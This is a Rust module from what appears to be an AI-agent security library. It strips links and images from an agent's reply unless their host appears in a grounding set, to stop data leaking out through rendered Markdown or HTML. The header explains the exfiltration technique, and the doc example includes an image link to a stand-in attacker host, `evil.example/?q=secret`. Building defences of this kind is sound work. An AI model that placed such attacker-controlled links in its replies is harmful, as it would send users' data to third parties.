// SPDX-License-Identifier: MIT OR Apache-2.0
//! The reply filter: links and images of an agent's reply whose host nobody named.
//!
//! A reply is the one text that leaves by a side door: whoever shows it fetches its images, and a
//! person opens its links, so that an address made up by an attacker carries data out. What is
//! kept is decided by the grounding set alone; how the reply reads does not count.

mod bare;
mod html;
mod markdown;
mod target;

use ancile_core::CanonicalValue;
use core::fmt;
use core::ops::Range;
use std::collections::BTreeMap;

/// Longest reply, in bytes. A longer one is not read: all of it is removed.
pub const REPLY_BYTES_MAX: usize = 1 << 18;
/// How often what is left is read again. Where it still changes then, all of it is removed.
const PASSES_MAX: usize = 16;
/// Longest address that is read, in bytes. A longer one is removed.
const ADDRESS_BYTES_MAX: usize = 2_048;
/// Longest target that is reported, in bytes.
const TARGET_BYTES_MAX: usize = 200;
/// What stands in place of a whole reply.
const ALL_REMOVED: &str = "(reply removed: its links cannot be read)";

/// What something in a reply is, to whoever shows it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum LinkKind {
    /// A link of Markdown: inline, by reference, or in angle brackets.
    Link,
    /// An image of Markdown.
    Image,
    /// Where a reference of Markdown leads.
    Definition,
    /// A tag of HTML.
    Tag,
    /// An address in plain text.
    Bare,
    /// The reply as a whole.
    Reply,
}

impl LinkKind {
    /// The name on the wire.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::Link => "link",
            Self::Image => "image",
            Self::Definition => "definition",
            Self::Tag => "tag",
            Self::Bare => "bare",
            Self::Reply => "reply",
        }
    }
}

/// Why a link or image was removed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum LinkReason {
    /// Nothing in the grounding set names its host, or its e-mail address or telephone number.
    NotNamed,
    /// A scheme that runs or shows something of its own, such as `javascript:` or `data:`.
    Scheme,
    /// It cannot be read as an address, or not in one way.
    Unreadable,
    /// An element of HTML that loads or runs something.
    Element,
    /// An attribute of HTML that may load or run something.
    Attribute,
    /// The reply is too long, or never stops changing.
    TooLong,
}

impl LinkReason {
    /// The name on the wire.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::NotNamed => "not_named",
            Self::Scheme => "scheme",
            Self::Unreadable => "unreadable",
            Self::Element => "element",
            Self::Attribute => "attribute",
            Self::TooLong => "too_long",
        }
    }
}

impl fmt::Display for LinkReason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// Something that was taken out of a reply.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RemovedLink {
    /// Where it stood, in bytes of the reply as it came, on character boundaries.
    pub span: Range<usize>,
    /// What it was.
    pub kind: LinkKind,
    /// Where it led, as a browser reads it; the first 200 bytes.
    pub target: String,
    /// Why it was removed.
    pub reason: LinkReason,
}

/// A reply after the filter.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FilteredReply {
    /// The text to show, with marks such as `(link removed)` in place of what is gone; the words
    /// of a link stay.
    pub text: String,
    /// What was removed, in the order in which it was found.
    pub removed: Vec<RemovedLink>,
}

/// Takes out of a reply each link and image whose host `named` does not have, whether the reply is
/// shown as Markdown, as HTML or as plain text.
///
/// `named` is asked for canonical hosts and URLs, and for the addresses and numbers of `mailto:`
/// and `tel:` links; one yes is enough. Links without a host stay. Hosts are read as browsers read
/// them (WHATWG URL), so that `https://bank.example@evil.example`, `//evil.example`, entities,
/// percent-encoding, full-width letters and punycode all name the host that would be asked.
///
/// Code is no exception, since programs disagree on what is code. E-mail addresses in plain text
/// are left alone. Bare addresses without a scheme count where they begin with `www.`, or have a
/// known public suffix and a path.
///
/// What is left is read again until nothing more is found, so that nothing comes together where
/// something was taken out.
///
/// ```
/// use ancile_core::ArgKind;
/// use ancile_screen::{canonical, filter_reply};
/// let ours = canonical(ArgKind::Host, "docs.example");
/// let reply = "See [the manual](https://docs.example/a). ![](https://evil.example/?q=secret)";
/// let out = filter_reply(reply, &|value| Some(value) == ours.as_ref());
/// assert_eq!(out.text, "See [the manual](https://docs.example/a). (image removed)");
/// assert_eq!(out.removed[0].target, "https://evil.example/?q=secret");
/// ```
#[must_use]
pub fn filter_reply(reply: &str, named: &dyn Fn(&CanonicalValue) -> bool) -> FilteredReply {
    let mut removed = Vec::new();
    if reply.len() > REPLY_BYTES_MAX {
        return all_removed(reply, removed);
    }
    let asked = target::Asked::new(named);
    let mut text = reply.to_owned();
    // For each byte of `text`, and one past its end, where it stood in the reply.
    let mut places: Vec<usize> = (0..=reply.len()).collect();
    for _ in 0..PASSES_MAX {
        let edits = edits(&text, &asked);
        if edits.is_empty() {
            return FilteredReply { text, removed };
        }
        let place = |at: usize| places.get(at).copied().unwrap_or(reply.len());
        removed.extend(edits.values().filter_map(|edit| {
            let bad = edit.bad.as_ref()?;
            let span = place(bad.span.start)..place(bad.span.end).max(place(bad.span.start));
            Some(RemovedLink {
                span,
                ..bad.clone()
            })
        }));
        (text, places) = apply(&text, &places, &edits);
    }
    all_removed(reply, removed)
}

fn all_removed(reply: &str, mut removed: Vec<RemovedLink>) -> FilteredReply {
    removed.push(RemovedLink {
        span: 0..reply.len(),
        kind: LinkKind::Reply,
        target: String::new(),
        reason: LinkReason::TooLong,
    });
    FilteredReply {
        text: ALL_REMOVED.to_owned(),
        removed,
    }
}

/// One change of a text.
#[derive(Debug, Clone)]
struct Edit {
    end: usize,
    put: &'static str,
    /// What it removes; a change that only goes with another one has none.
    bad: Option<RemovedLink>,
}

/// Changes by where they begin.
type Edits = BTreeMap<usize, Edit>;

/// What to change in a text: the changes of the first finder that has any. One that reaches over
/// the end of another widens it, so that nothing is left between.
fn edits(text: &str, asked: &target::Asked<'_>) -> Edits {
    let mut all = markdown::edits(text, asked);
    if all.is_empty() {
        all = html::edits(text, asked);
    }
    if all.is_empty() {
        all = bare::edits(text, asked);
    }
    all.sort_by_key(|(span, edit)| (span.start, core::cmp::Reverse(span.end), edit.bad.is_none()));
    let mut out = Edits::new();
    for (span, edit) in all {
        let last = out.last_entry().filter(|last| span.start < last.get().end);
        match last {
            Some(mut last) => {
                let held = last.get_mut();
                held.end = held.end.max(span.end);
                held.bad = held.bad.take().or(edit.bad);
            }
            None => {
                out.insert(span.start, edit);
            }
        }
    }
    out
}

fn apply(text: &str, places: &[usize], edits: &Edits) -> (String, Vec<usize>) {
    let mut out = String::with_capacity(text.len());
    let mut at_places = Vec::with_capacity(places.len());
    let mut at = 0;
    for (start, edit) in edits {
        out.push_str(text.get(at..*start).unwrap_or_default());
        at_places.extend(places.get(at..*start).unwrap_or_default());
        out.push_str(edit.put);
        let place = places.get(*start).copied().unwrap_or_default();
        at_places.extend(edit.put.bytes().map(|_| place));
        at = edit.end;
    }
    out.push_str(text.get(at..).unwrap_or_default());
    at_places.extend(places.get(at..).unwrap_or_default());
    (out, at_places)
}

/// A change that removes something.
fn removal(span: Range<usize>, put: &'static str, bad: RemovedLink) -> (Range<usize>, Edit) {
    let end = span.end;
    let bad = Some(bad);
    (span, Edit { end, put, bad })
}

/// The beginning of a target, for the report.
fn short(target: &str) -> String {
    let end = target.floor_char_boundary(TARGET_BYTES_MAX.min(target.len()));
    target.get(..end).unwrap_or_default().to_owned()
}
